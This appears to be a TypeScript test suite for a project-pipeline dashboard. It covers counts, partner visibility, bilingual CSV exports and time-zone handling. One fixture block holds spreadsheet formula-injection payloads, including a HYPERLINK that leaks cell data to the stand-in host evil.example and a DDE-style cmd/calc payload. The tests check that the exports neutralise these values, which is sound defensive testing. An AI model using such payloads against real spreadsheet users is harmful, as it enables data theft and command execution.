import { createTestDatabase, type TestDatabase } from "@lodestone/db/testing";
import { seed } from "@lodestone/db/seed";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { processSigner, resolveSession } from "../../context.js";
import { callerFor, createFixture, inDeliveryOf, sessionFor } from "../../test/fixtures.js";

let db: TestDatabase;

beforeAll(async () => {
  db = await createTestDatabase();
  await seed(db.prisma, processSigner());
});
afterAll(() => db.close());

async function callerAs(email: string, now?: () => Date) {
  const user = await db.prisma.user.findUniqueOrThrow({ where: { email } });
  return callerFor(
    db,
    await resolveSession(db, await sessionFor(db, user.id), new Date()),
    now ? { now } : {},
  );
}

describe("dashboard.pipeline", () => {
  it("counts what the reader may see, by status, commodity, stage and country, from aggregates", async () => {
    const api = await callerAs("delegate.us@lodestone.example");
    const figures = await api.dashboard.pipeline();
    const visible = await db.prisma.project.count({ where: { submittedAt: { not: null } } });
    const sum = (xs: { count: number }[]) => xs.reduce((a, b) => a + b.count, 0);
    expect(sum(figures.byStatus)).toBe(visible);
    expect(sum(figures.byCommodity)).toBe(visible);
    expect(sum(figures.byStage)).toBe(visible);
    expect(sum(figures.bySiteCountry)).toBe(visible);
    expect(figures.byStatus.some((s) => s.key === "DRAFT")).toBe(false);

    const approved = await db.prisma.project.aggregate({
      where: { status: { in: ["APPROVED", "IN_DELIVERY", "COMPLETED"] } },
      _sum: { capexUsd: true, capacityTpy: true },
      _count: { _all: true },
    });
    expect(figures.approved).toEqual({
      projects: approved._count._all,
      capexUsd: Number(approved._sum.capexUsd),
      capacityTpy: approved._sum.capacityTpy,
    });
    expect(figures.milestones.overdue).toBeGreaterThan(0);
  });

  it("shows a partner its own organisation's projects and approved ones only", async () => {
    const partner = await callerAs("partner@quandong.example");
    const figures = await partner.dashboard.pipeline();
    const org = (await db.prisma.user.findUniqueOrThrow({ where: { email: "partner@quandong.example" } }))
      .organisationId!;
    const expected = await db.prisma.project.count({
      where: { OR: [{ organisationId: org }, { status: { in: ["APPROVED", "IN_DELIVERY", "COMPLETED"] } }] },
    });
    expect(figures.byStatus.reduce((a, b) => a + b.count, 0)).toBe(expected);
  });
});

describe("CSV exports", () => {
  it("are UTF-8 with a BOM, one row per visible project, Japanese intact", async () => {
    const api = await callerAs("delegate.jp@lodestone.example");
    const file = await api.dashboard.projectsCsv();
    expect(file.filename).toMatch(/^lodestone-projects-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(file.content.charCodeAt(0)).toBe(0xfeff);
    const rows = parse(file.content.slice(1), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(await db.prisma.project.count({ where: { submittedAt: { not: null } } }));
    expect(rows.some((r) => /[\u3040-\u30ff\u4e00-\u9fff]/.test(r["タイトル（日本語）"] ?? ""))).toBe(true);

    const milestones = await api.dashboard.milestonesCsv();
    const mrows = parse(milestones.content.slice(1), { columns: true }) as Record<string, string>[];
    expect(mrows.length).toBe(await db.prisma.milestone.count());
    expect(mrows[0]).toHaveProperty("基準タイムゾーン");
  });

  describe("a partner's text that a spreadsheet would run as a formula", () => {
    let own: TestDatabase;
    let fx: Awaited<ReturnType<typeof createFixture>>;
    let reference: string;
    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the annex")';

    beforeAll(async () => {
      own = await createTestDatabase();
      fx = await createFixture(own);
      const id = await inDeliveryOf(own, fx);
      const project = await own.prisma.project.update({
        where: { id },
        data: { titleEn: hyperlink, titleJa: "+81-3-0000-0000", siteRegion: "-Pilbara, WA" },
        select: { reference: true },
      });
      reference = project.reference;
      await own.prisma.organisation.update({
        where: { id: fx.organisations.a },
        data: { name: "@SUM(1+1)*cmd|' /C calc'!A0" },
      });
      const parent = await own.prisma.milestone.create({
        data: { projectId: id, titleEn: "\r=1+1", titleJa: "親", dueDate: new Date("2027-03-31T00:00:00Z") },
        select: { id: true },
      });
      await own.prisma.milestone.create({
        data: {
          projectId: id,
          parentId: parent.id,
          titleEn: "\t=cmd",
          titleJa: "＝全角は数式ではない",
          dueDate: new Date("2027-03-01T00:00:00Z"),
        },
      });
    });
    afterAll(() => own.close());

    it("is written with a leading single quote and quoted as RFC 4180 says, in every export", async () => {
      const api = callerFor(own, fx.users.coordinator);
      const projects = await api.dashboard.projectsCsv();
      const line = projects.content.split("\r\n").find((l) => l.startsWith(`${reference},`));
      // The cell holds commas and quotes: it is quoted, its quotes doubled, and it starts with '.
      expect(line).toBe(
        `${reference},"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open the annex"")",'+81-3-0000-0000,` +
          `IN_DELIVERY,DY,SEPARATION,AU,"'-Pilbara, WA",1200,340000000,en,'@SUM(1+1)*cmd|' /C calc'!A0,JP US,` +
          line!.split(",").at(-1),
      );
      const [row] = parse(projects.content.slice(1), { columns: true }) as Record<string, string>[];
      expect(row).toMatchObject({
        "Title (English)": `'${hyperlink}`,
        "Title (Japanese)": "'+81-3-0000-0000",
        "Site region": "'-Pilbara, WA",
        "Proposing organisation": "'@SUM(1+1)*cmd|' /C calc'!A0",
      });

      const milestones = await api.dashboard.milestonesCsv();
      const mrows = parse(milestones.content.slice(1), { columns: true }) as Record<string, string>[];
      expect(mrows.map((m) => [m["Title (English)"], m["Title (Japanese)"], m["Parent milestone"]])).toEqual([
        ["'\t=cmd", "＝全角は数式ではない", "'\r=1+1"],
        ["'\r=1+1", "親", ""],
      ]);
      // A carriage return inside a cell is quoted, never a bare line break.
      expect(milestones.content).toContain(`"'\r=1+1"`);
      for (const text of [projects.content, milestones.content]) {
        for (const cell of parse(text.slice(1)) as string[][]) {
          for (const value of cell.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    });

    it("has its headers in the reader's language and its file dated by the reader's clock", async () => {
      // 15:30 UTC on 5 December: 6 December in Tokyo, 5 December in New York.
      const now = () => new Date("2026-12-05T15:30:00Z");
      const ja = callerFor(own, fx.users.jpDelegate, { now });
      const en = callerFor(own, fx.users.usDelegate, { now });
      expect(fx.users.jpDelegate).toMatchObject({ locale: "ja", timeZone: "Asia/Tokyo" });
      expect(fx.users.usDelegate).toMatchObject({ locale: "en", timeZone: "America/New_York" });

      const jaProjects = await ja.dashboard.projectsCsv();
      expect(jaProjects.filename).toBe("lodestone-projects-2026-12-06.csv");
      expect(jaProjects.content.slice(1).split("\r\n")[0]).toBe(
        "参照番号,タイトル（英語）,タイトル（日本語）,ステータス,鉱種,サプライチェーンの段階,サイトの国,サイトの地域," +
          "生産能力（t/年）,設備投資額（米ドル）,正本の言語,提案組織,支援代表団,更新日時（UTC）",
      );
      const enProjects = await en.dashboard.projectsCsv();
      expect(enProjects.filename).toBe("lodestone-projects-2026-12-05.csv");
      expect(enProjects.content.slice(1).split("\r\n")[0]).toBe(
        "Reference,Title (English),Title (Japanese),Status,Commodity,Supply-chain stage,Site country," +
          "Site region,Capacity (t/yr),Capex (USD),Binding language,Proposing organisation," +
          "Sponsoring delegations,Updated (UTC)",
      );

      const jaMilestones = await ja.dashboard.milestonesCsv();
      expect(jaMilestones.filename).toBe("lodestone-milestones-2026-12-06.csv");
      expect(jaMilestones.content.slice(1).split("\r\n")[0]).toBe(
        "プロジェクト,タイトル（英語）,タイトル（日本語）,親マイルストーン,期限日,基準タイムゾーン,状態,進捗（%）,重み,担当",
      );
      const enMilestones = await en.dashboard.milestonesCsv();
      expect(enMilestones.filename).toBe("lodestone-milestones-2026-12-05.csv");
      expect(enMilestones.content.slice(1).split("\r\n")[0]).toBe(
        "Project,Title (English),Title (Japanese),Parent milestone,Due date,Reference time zone,Status," +
          "Progress (%),Weight,Assignee",
      );
      // The same rows whatever the language.
      expect(jaProjects.content.split("\r\n").slice(1)).toEqual(enProjects.content.split("\r\n").slice(1));
    });
  });
});

describe("dashboard.pipeline's milestone figures", () => {
  it("count overdue and due this month in each project's reference time zone", async () => {
    const own = await createTestDatabase();
    try {
      const fx = await createFixture(own);
      const tokyo = await inDeliveryOf(own, fx);
      const newYork = await inDeliveryOf(own, fx);
      await own.prisma.project.update({ where: { id: tokyo }, data: { referenceTimeZone: "Asia/Tokyo" } });
      await own.prisma.project.update({
        where: { id: newYork },
        data: { referenceTimeZone: "America/New_York" },
      });
      const due = (projectId: string, day: string) => ({
        projectId,
        titleEn: `Due ${day}`,
        titleJa: `期限 ${day}`,
        dueDate: new Date(`${day}T00:00:00Z`),
      });
      await own.prisma.milestone.createMany({
        data: [
          due(tokyo, "2026-03-31"),
          due(tokyo, "2026-04-15"),
          due(newYork, "2026-03-31"),
          due(newYork, "2026-04-15"),
          { ...due(newYork, "2026-03-01"), status: "DONE" },
        ],
      });
      const figuresAt = (iso: string) =>
        callerFor(own, fx.users.usDelegate, { now: () => new Date(iso) }).dashboard.pipeline();
      // 16:00 UTC on 31 March: already 1 April in Tokyo, still 31 March (noon) in New York.
      expect((await figuresAt("2026-03-31T16:00:00Z")).milestones).toEqual({ overdue: 1, dueThisMonth: 2 });
      // A day later it is April in both, and both 31 March milestones are overdue.
      expect((await figuresAt("2026-04-01T16:00:00Z")).milestones).toEqual({ overdue: 2, dueThisMonth: 2 });
    } finally {
      await own.close();
    }
  });
});
